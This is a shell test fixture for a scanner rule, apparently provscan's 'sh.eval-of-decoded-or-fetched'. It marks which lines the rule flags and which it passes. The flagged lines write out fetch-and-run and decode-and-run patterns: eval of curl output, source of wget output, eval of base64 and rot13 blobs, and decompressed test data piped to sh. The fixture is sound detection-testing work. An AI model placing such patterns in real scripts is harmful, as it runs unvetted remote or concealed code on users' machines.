#!/bin/bash
# Fixture for sh.eval-of-decoded-or-fetched (written for provscan; not from any project).
set -eu
url="https://get.example.invalid/setup"
blob="ZWNobyBoaQo="

# ruleid: sh.eval-of-decoded-or-fetched
eval "$(curl -fsSL "$url")"

# ruleid: sh.eval-of-decoded-or-fetched
eval "$(echo "$blob" | base64 -d)"

# ruleid: sh.eval-of-decoded-or-fetched
eval `printf %s "$blob" | tr 'A-Za-z' 'N-ZA-Mn-zm-a'`

# ruleid: sh.eval-of-decoded-or-fetched
source <(wget -qO- "$url")

# ruleid: sh.eval-of-decoded-or-fetched
cat tests/files/good-large.xz | xz -d | sh

# ok: sh.eval-of-decoded-or-fetched
eval "$(ssh-agent -s)"

# ok: sh.eval-of-decoded-or-fetched
decoded="$(echo "$blob" | base64 -d)"

# ok: sh.eval-of-decoded-or-fetched
curl -fsSL -o setup.tar.gz "$url"
